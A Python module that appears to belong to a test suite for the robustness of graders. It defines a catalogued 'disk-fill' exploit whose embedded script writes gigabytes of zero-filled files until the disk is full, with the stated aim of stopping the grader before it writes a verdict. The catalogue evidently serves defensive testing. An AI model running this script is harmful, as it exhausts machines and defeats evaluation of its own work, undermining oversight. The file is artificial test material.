"""Files of zeros written until there is no room."""

from scoring.attacks.exploit import Exploit

SCRIPT = """\
import os
import time

end = time.time() + 15
block = bytes(1 << 20)
number = 0
while time.time() < end:
    try:
        with open("fill%d" % number, "wb") as handle:
            for _ in range(64):
                handle.write(block)
    except OSError:
        time.sleep(0.2)
    number += 1
"""

EXPLOIT = Exploit(
    name="disk-fill",
    flaw="exhausts the machine",
    source="exploit catalogue of verification.md section 4",
    idea="a full disk stops the grader before it has written a verdict",
    files={"tmp/disk_fill.py": SCRIPT},
    command="python3 /tmp/disk_fill.py",
)
